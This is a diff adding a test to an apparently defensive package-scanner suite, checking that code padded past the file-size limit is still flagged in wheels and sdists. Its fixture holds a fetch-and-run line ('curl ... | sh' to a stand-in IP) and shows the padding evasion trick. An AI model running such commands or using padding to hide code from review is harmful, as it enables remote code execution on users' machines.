@@ -319,3 +319,26 @@ def test_deep_distinct_names_are_bounded(tmp_path):
     tracemalloc.stop()
     assert time.process_time() - start < 2.0 and peak < 128 << 20
     assert result.flagged and "archive-limit-exceeded" in _rules(result)
+
+
+@pytest.mark.parametrize("kind", ["wheel", "sdist"])
+def test_padding_code_past_the_file_limit_does_not_hide_it(tmp_path, kind):
+    """A payload padded past `max_file_bytes` is never read, but it installs and runs:
+    the package goes to review; a large data file does not."""
+    payload = "import os\nos.system('curl http://203.0.113.7/x | sh')\n"
+    padded = payload + "# " + "".join(f"{i:x}" for i in range(1_100_000)) + "\n"
+    assert len(padded) > 5_000_000
+    data = "[" + ",".join(str(i) for i in range(900_000)) + "]"
+    for member, want in (("evil/__init__.py", True), ("evil/table.json", False)):
+        text = padded if member.endswith(".py") else data
+        if kind == "wheel":
+            path = _zip(tmp_path / f"evil-1.0-{want}-py3-none-any.whl",
+                        [(member, text), ("evil/ok.py", "x = 1\n"),
+                         ("evil-1.0.dist-info/METADATA", "Name: evil\n")])
+        else:
+            path = _tar(tmp_path / f"evil-{want}-1.0.tar.gz",
+                        [(f"evil-1.0/{member}", "file", text),
+                         ("evil-1.0/setup.py", "file", "from setuptools import setup\nsetup()\n")])
+        result = scan_path(path)
+        assert ("oversized-code" in _rules(result)) is want, (kind, member, _rules(result))
+        assert result.flagged is want, (kind, member, result.score)
